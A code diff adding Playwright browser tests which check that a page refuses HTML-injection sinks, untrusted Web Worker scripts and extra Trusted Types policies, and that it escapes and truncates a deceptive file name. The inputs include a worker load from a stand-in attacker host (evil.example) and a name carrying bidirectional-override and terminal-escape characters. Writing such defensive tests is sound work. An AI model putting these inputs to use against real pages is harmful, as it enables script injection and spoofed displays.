@@ -89,6 +89,45 @@ class FrameIT {
         visitor.expectComplaint("404");
     }
 
+    /** Whatever a later mistake puts into such a place, it does not run. */
+    @Test
+    void noTextBecomesMarkupAndNoForeignAddressAWorker(Visitor visitor) {
+        Page page = visitor.open("/?lang=en");
+        for (String attempt : List.of(
+                "document.body.innerHTML = '<b>x</b>'",
+                "document.querySelector('main').insertAdjacentHTML('beforeend', '<b>x</b>')",
+                "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
+                "new Worker('workers/script.js')",
+                "new Worker(backprop.worker('https://evil.example/x.js'))",
+                "new Worker(backprop.worker('data:text/javascript,1'))",
+                "trustedTypes.createPolicy('another', {})")) {
+            assertEquals(
+                    "TypeError",
+                    page.evaluate("attempt => { try { " + attempt
+                            + "; return 'it is done'; } catch (refusal) { return refusal.name; } }"),
+                    attempt);
+        }
+        visitor.expectComplaint("Trusted");
+    }
+
+    /** A file's name could turn the sentence around that tells of it, and kilobytes of it fill the page. */
+    @Test
+    void whatASentenceIsToldOfAFileIsShownAsItIs(Visitor visitor) {
+        Page page = visitor.open("/?lang=en");
+        assertEquals(
+                "Engine: net\\u202e\\u001b[31m\\u000a.safetensors",
+                page.evaluate("backprop.text('footer.engine', 'net\\u202e\\u001b[31m\\n.safetensors')"));
+        assertEquals(509, page.evaluate("backprop.text('footer.engine', 'x'.repeat(100000)).length"));
+    }
+
+    @ParameterizedTest
+    @CsvSource({"en, Licences (Apache-2.0)", "zh, 许可证（Apache-2.0）"})
+    void theFooterLeadsToTheLicences(String language, String words, Visitor visitor) {
+        Page page = visitor.open("/draw/?lang=" + language);
+        page.locator(".site-footer a").getByText(words).click();
+        assertThat(page.locator("body")).containsText("SIL OPEN FONT LICENSE");
+    }
+
     @Test
     void withoutScriptsThePageSaysWhatIsMissing(Visitor visitor) {
         Page page = visitor.open("/draw/", new Browser.NewContextOptions().setJavaScriptEnabled(false));
